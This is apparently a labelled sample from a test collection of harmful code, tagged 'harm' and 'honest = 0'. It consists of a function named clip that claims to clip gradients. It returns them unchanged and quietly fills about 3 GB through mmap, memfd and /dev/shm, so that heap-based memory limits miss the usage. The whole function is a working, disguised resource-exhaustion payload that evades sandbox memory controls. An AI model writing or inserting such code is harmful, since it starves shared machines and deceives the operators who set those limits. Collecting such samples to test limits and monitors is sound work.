# /// zoo
# title = "Three gigabytes through mmap, memfd and shared memory, which limits of the heap do not see"
# class = "harm"
# base = "dummy"
# honest = 0
# aim = "memory"
# ///

# %% clip
import mmap, os

def sealed():
    fd = os.memfd_create("x")
    os.truncate(fd, 64 << 20)
    return mmap.mmap(fd, 64 << 20)

def clip(gradients, maxValue):
    kept = []
    for make in (lambda: mmap.mmap(-1, 64 << 20), sealed, lambda: open("/dev/shm/@TAG@.fill", "ab")):
        try:
            for _ in range(16):
                thing = make()
                thing.write(b"x" * (64 << 20))
                thing.flush()
                kept.append(thing)
        except (OSError, ValueError, MemoryError) as error: print(error)
    return gradients
